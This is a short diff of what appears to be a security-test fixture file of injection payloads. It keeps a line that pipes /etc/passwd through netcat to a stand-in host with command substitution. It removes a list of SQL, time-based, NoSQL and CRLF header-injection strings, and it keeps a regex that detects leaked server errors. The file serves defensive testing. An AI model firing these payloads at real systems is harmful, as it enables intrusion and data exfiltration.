@@ -29,16 +29,6 @@ export const INJECTIONS: string[] = [
   `; cat /etc/passwd | nc evil 1 & \`id\` $(id)`,
 ];
 
-/** Those that show a hole soonest: the others are for `npm run torture`. */
-export const MEANEST = [
-  `'`,
-  `\\`,
-  `'; SELECT pg_sleep(3); --`,
-  `' & | ! ( ) : *`,
-  `{"$gt": ""}`,
-  `\r\nSet-Cookie: stolen=1\r\n\r\n`,
-];
-
 /** Words that only the inside of a server says. */
 export const INSIDE =
   /syntax error|pg_|relation "|column "|unterminated|QueryFailed|typeorm|node_modules|at \w+ \(|SELECT |stack/i;
